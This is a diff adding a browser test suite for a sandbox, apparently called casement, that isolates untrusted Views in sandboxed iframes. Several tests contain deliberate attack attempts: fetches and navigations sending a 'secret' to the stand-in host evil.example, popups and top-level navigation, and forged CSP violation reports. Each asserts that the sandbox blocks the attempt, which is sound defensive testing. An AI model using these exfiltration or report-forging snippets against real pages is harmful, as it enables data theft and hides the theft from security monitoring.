@@ -1,0 +1,196 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { SandboxReport } from '../../packages/casement/src/sandbox/index.ts'
+import { Stage, viewReporting } from './stage.ts'
+
+const reports: SandboxReport[] = []
+let stage: Stage
+beforeAll(async () => {
+  stage = await Stage.open({ onreport: (report) => reports.push(report) })
+}, 60_000)
+afterAll(() => stage.close())
+
+/** What a View found out and reported, which is all that its page can do here. */
+const found = async (expression: string, more: object = {}): Promise<Record<string, unknown>> => {
+  const view = await stage.mount({ html: viewReporting(expression), ...more })
+  const { value, error } = await view.wait('test/result')
+  await view.page.context().close()
+  if (error) throw new Error(String(error))
+  return value as Record<string, unknown>
+}
+
+describe('a served View in Chromium', { timeout: 30_000 }, () => {
+  test('R-079 R-080 R-082 R-083 lives in two sandboxed frames of three origins', async () => {
+    const view = await stage.mount({ html: viewReporting('origin') })
+    const { value } = await view.wait('test/result')
+    const origins = view.page.frames().map((frame) => new URL(frame.url()).origin)
+    expect(new Set(origins).size).toBe(3)
+    expect(origins).toEqual([stage.served.hostOrigin, `http://sandbox.casement.localhost:${stage.served.port}`, value])
+    expect(await view.proxy().evaluate(`document.querySelector('iframe').getAttribute('sandbox')`)).toBe(
+      'allow-scripts allow-same-origin',
+    )
+    await view.page.context().close()
+  })
+
+  test('R-084 R-086 the proxy announces itself once, with empty parameters, to the host origin', async () => {
+    const view = await stage.mount({ html: viewReporting('1') })
+    await view.wait('test/result')
+    const ready = (await view.heard()).filter(({ message }) => message.method === 'ui/notifications/sandbox-proxy-ready')
+    expect(ready).toEqual([
+      { by: 'window', message: { jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, ports: 0 },
+    ])
+    await view.page.context().close()
+  })
+
+  test('cannot reach its proxy, its host, or their storage', async () => {
+    expect(
+      await found(`({
+        proxy: attempt(() => parent.document.title), host: attempt(() => top.document.title), frame: attempt(() => frameElement),
+        proxyPlace: attempt(() => parent.location.href), config: attempt(() => parent.frames[0].document === document),
+        cluster: originAgentCluster,
+      })`),
+    ).toEqual({
+      proxy: 'threw SecurityError',
+      host: 'threw SecurityError',
+      frame: 'null',
+      proxyPlace: 'threw SecurityError',
+      config: 'true',
+      cluster: true,
+    })
+  })
+
+  test('has real storage of its own, which it keeps and no other app sees', async () => {
+    const page = await stage.hostPage()
+    const read = viewReporting(
+      `({ mine: localStorage.getItem('who'), cookie: document.cookie, keys: Object.keys(localStorage).length })`,
+    )
+    const write = viewReporting(`(localStorage.setItem('who', 'first'), document.cookie = 'who=first', 'kept')`)
+    const run = async (app: string, html: string): Promise<unknown> => {
+      await page.goto(stage.served.hostOrigin)
+      return (await (await stage.mount({ app, html }, {}, page)).wait('test/result'))['value']
+    }
+    expect(await run('first', write)).toBe('kept')
+    expect(await run('first', read)).toEqual({ mine: 'first', cookie: 'who=first', keys: 1 })
+    expect(await run('second', read)).toEqual({ mine: null, cookie: '', keys: 0 })
+    await page.context().close()
+  })
+
+  test('cannot send anything to undeclared places, and the browser itself reports the attempt (R-048)', async () => {
+    reports.length = 0
+    const page = await stage.hostPage()
+    const ticket = await stage.ticket({
+      html: viewReporting(`fetch('https://evil.example/?secret').catch(String)`),
+      app: 'exfiltrator',
+    })
+    await page.evaluate(`
+      window.streamed = []
+      new EventSource(${JSON.stringify(ticket.reportsUrl)}).onmessage = ({ data }) => streamed.push(JSON.parse(data))`)
+    const params = { html: '', url: ticket.viewUrl, sandbox: ticket.sandbox, allow: '' }
+    const view = await stage.show(ticket.proxyUrl, { params }, page)
+    expect(await view.wait('test/result')).toEqual({ value: 'TypeError: Failed to fetch' })
+    const told = await view.wait('dev.casement/sandbox/view-report')
+    expect(told).toMatchObject({ kind: 'csp', directive: 'connect-src', blocked: 'https://evil.example/?secret' })
+    expect(JSON.stringify(told)).not.toContain(ticket.viewUrl)
+    await page.waitForFunction('streamed.length > 0')
+    const streamed = await page.evaluate<SandboxReport[]>('streamed')
+    const expected = {
+      document: 'view',
+      directive: 'connect-src',
+      blocked: 'https://evil.example/?secret',
+      view: ticket.viewOrigin,
+    }
+    expect(streamed[0]).toMatchObject(expected)
+    expect(reports[0]).toMatchObject(expected)
+    await page.context().close()
+  })
+
+  test('cannot forge such a report, although it can find the address', async () => {
+    reports.length = 0
+    const tried = await found(
+      `await new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', async ({ originalPolicy }) => {
+          const address = /report-uri (\\S+)/.exec(originalPolicy)[1]
+          const body = JSON.stringify({ 'csp-report': { 'effective-directive': 'forged', 'blocked-uri': 'x' } })
+          const blob = new Blob([body], { type: 'application/csp-report' })
+          resolve([
+            await fetch(address, { method: 'POST', body: blob }).then((r) => r.status, String),
+            await fetch(address, { method: 'POST', body: blob, mode: 'no-cors' }).then((r) => r.status, String),
+            navigator.sendBeacon(address, blob),
+          ])
+        }, { once: true })
+        fetch('https://evil.example/')
+      })`,
+      { csp: {}, app: 'forger' },
+    )
+    expect(tried).toEqual(['TypeError: Failed to fetch', 'TypeError: Failed to fetch', true])
+    await expect.poll(() => reports.length).toBeGreaterThan(2)
+    expect(reports.map(({ directive }) => directive)).not.toContain('forged')
+    expect(reports.every(({ directive }) => directive === 'connect-src')).toBe(true)
+  })
+
+  test('cannot navigate away, and the attempt shows as the proxy stopping it', async () => {
+    reports.length = 0
+    const page = await stage.hostPage()
+    const asked: string[] = []
+    await page.context().route('https://evil.example/**', (route) => {
+      asked.push(route.request().url())
+      return route.abort()
+    })
+    const html = viewReporting(`(setTimeout(() => { location.href = 'https://evil.example/?secret' }), 'trying')`)
+    const view = await stage.mount({ html, app: 'leaver' }, {}, page)
+    await view.wait('test/result')
+    await expect.poll(() => reports.find(({ document }) => document === 'proxy')).toMatchObject({ directive: 'frame-src' })
+    expect(asked).toEqual([])
+    await page.context().close()
+  })
+
+  test('cannot open windows, dialogs, downloads or the top, and cannot read its own headers', async () => {
+    expect(
+      await found(
+        `({
+          popup: attempt(() => window.open('https://evil.example/')), confirm: attempt(() => confirm('?')),
+          top: attempt(() => { top.location.href = 'https://evil.example/' }),
+          self: await fetch(location.href).then((r) => r.status, String),
+          worker: await navigator.serviceWorker.register(location.href).then(() => 'registered', (e) => e.name),
+        })`,
+        { csp: {} },
+      ),
+    ).toEqual({ popup: 'null', confirm: 'false', top: 'threw SecurityError', self: 403, worker: 'SecurityError' })
+  })
+
+  test('gets the permissions it was granted and no others (R-072 to R-078)', async () => {
+    const ask = `['camera', 'microphone', 'geolocation', 'clipboard-write', 'usb', 'fullscreen'].filter((name) => document.featurePolicy.allowsFeature(name))`
+    expect(await found(ask, { permissions: { camera: {}, clipboardWrite: {} } })).toEqual(['camera', 'clipboard-write'])
+    expect(await found(ask)).toEqual([])
+  })
+
+  test('is taken from the browser cache the second time', async () => {
+    const page = await stage.hostPage()
+    const html = viewReporting('performance.getEntriesByType("navigation")[0].transferSize')
+    const size = async (): Promise<unknown> => {
+      await page.goto(stage.served.hostOrigin)
+      return (await (await stage.mount({ html, app: 'cached' }, {}, page)).wait('test/result'))['value']
+    }
+    expect(await size()).toBeGreaterThan(0)
+    expect(await size()).toBe(0)
+    await page.context().close()
+  })
+
+  test('keeps its own document as it was: mode, attributes, first script, language', async () => {
+    const html = (doctype: string): string =>
+      `\uFEFF${doctype}<!-- c --><html lang="de" class="dark"><head data-x="1"><meta name="a"><title>T</title></head><body id="b">${viewReporting(
+        `({ mode: document.compatMode, lang: document.documentElement.lang, class: document.documentElement.className,
+            first: document.head.firstElementChild.localName, scripts: document.scripts.length, title: document.title, body: document.body.id })`,
+      ).replace(/^.*?<body>|<\/body>.*$/gs, '')}</body></html>`
+    const expected = { lang: 'de', class: 'dark', first: 'meta', scripts: 1, title: 'T', body: 'b' }
+    const [standard, quirks] = await Promise.all(
+      ['<!doctype html>', ''].map(async (doctype) => {
+        const view = await stage.mount({ html: html(doctype), app: `doctype ${doctype}` })
+        const { value } = await view.wait('test/result')
+        await view.page.context().close()
+        return value
+      }),
+    )
+    expect(standard).toEqual({ mode: 'CSS1Compat', ...expected })
+    expect(quirks).toEqual({ mode: 'BackCompat', ...expected })
+  })
+})
